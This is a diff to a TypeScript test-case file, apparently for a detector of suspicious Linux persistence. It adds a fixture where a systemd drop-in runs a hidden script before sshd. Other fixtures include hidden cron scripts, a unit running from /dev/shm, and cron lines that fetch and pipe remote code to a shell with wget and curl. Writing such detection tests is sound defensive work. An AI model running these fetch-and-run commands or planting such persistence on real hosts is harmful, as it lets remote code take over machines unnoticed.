@@ -24,6 +24,7 @@ export const cases: Cases = {
   fail: [
     { title: 'cron starts a hidden script: the line and the script', facts: [...installed([program('/usr/lib/.x/run')]), cron('perf', '/usr/lib/.x/run >/dev/null 2>&1'), fetches('/usr/lib/.x/run')], subjects: ['cron perf', '/usr/lib/.x/run'] },
     { title: 'a unit starts something from memory', facts: [...installed(), unit('helper', '/bin/sh /dev/shm/h.sh')], subjects: ['systemd helper.service'] },
+    { title: 'a drop-in that runs something hidden before a known service', facts: [...installed(), unit('ssh', '/usr/sbin/sshd -D', { directives: { 'Service.ExecStart': ['/usr/sbin/sshd -D'], 'Service.ExecStartPre': ['-/usr/lib/.x/run'] } })], subjects: ['systemd ssh.service'] },
     { title: 'a line that fetches and runs', facts: [...installed(), cron('stats', 'wget -qO- http://203.0.113.9/s | sh')], subjects: ['cron stats'] },
     { title: 'the same, as a rule saw it', facts: [...installed(), cron('stats', '$RUN'), { kind: 'pattern', file: '/etc/cron.d/stats', rule: 'fetched-code-run', title: 'Code is fetched and run in one go', excerpt: 'curl -s http://203.0.113.9/s | sh' }], subjects: ['cron stats'] },
     { title: 'a service that fetches and runs code, and is no update', facts: [...installed(), unit('sync', '/opt/app/bin/sync.sh'), fetches('/opt/app/bin/sync.sh')], subjects: ['/opt/app/bin/sync.sh'] },
